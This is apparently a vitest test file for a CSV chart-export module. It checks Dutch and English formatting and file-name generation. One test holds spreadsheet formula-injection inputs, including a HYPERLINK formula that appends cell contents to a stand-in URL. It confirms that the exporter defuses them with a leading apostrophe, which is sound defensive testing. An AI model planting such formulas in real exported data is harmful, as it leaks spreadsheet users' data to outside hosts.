import { describe, expect, it } from 'vitest';
import { exportFileName, toCsv } from './chart-export.ts';

describe('chart export', () => {
  const sheet = {
    header: ['Kwartaal', 'Notitie', 'Score'],
    rows: [
      ['2026-Q1', 'Nieuwe "coördinator"; gestart', 3.25],
      ['2026-Q2', null, 3],
    ],
  };

  it('writes CSV for a Dutch Excel in Dutch: BOM, semicolons, decimal commas, quoted where needed', async () => {
    expect(await toCsv(sheet, 'nl')).toBe(
      '\uFEFFKwartaal;Notitie;Score\r\n2026-Q1;"Nieuwe ""coördinator""; gestart";3,25\r\n2026-Q2;;3\r\n',
    );
  });

  it('writes standard CSV in English: BOM, commas, decimal points', async () => {
    expect(await toCsv(sheet, 'en')).toBe(
      '\uFEFFKwartaal,Notitie,Score\r\n2026-Q1,"Nieuwe ""coördinator""; gestart",3.25\r\n2026-Q2,,3\r\n',
    );
  });

  it('writes a text a spreadsheet would run as a formula with a leading apostrophe, numbers as numbers, line breaks quoted', async () => {
    const hostile = {
      header: ['Partnerschap', 'Verschil'],
      rows: [
        ['=HYPERLINK("https://example.test/?"&A1)', -0.25],
        ['@SUM(A1:A2)', -1],
        ['+31 20 123', 0],
        ['-dash', null],
        ['Twee\nregels', 1],
      ],
    };
    expect(await toCsv(hostile, 'nl')).toBe(
      '\uFEFFPartnerschap;Verschil\r\n"\'=HYPERLINK(""https://example.test/?""&A1)";-0,25\r\n\'@SUM(A1:A2);-1\r\n\'+31 20 123;0\r\n\'-dash;\r\n"Twee\nregels";1\r\n',
    );
  });

  it('makes a file name from a title', () => {
    expect(exportFileName('Partnerschap Twente Leert', 'Thema’s 2026-Q3')).toBe(
      'partnerschap-twente-leert-thema-s-2026-q3',
    );
  });
});
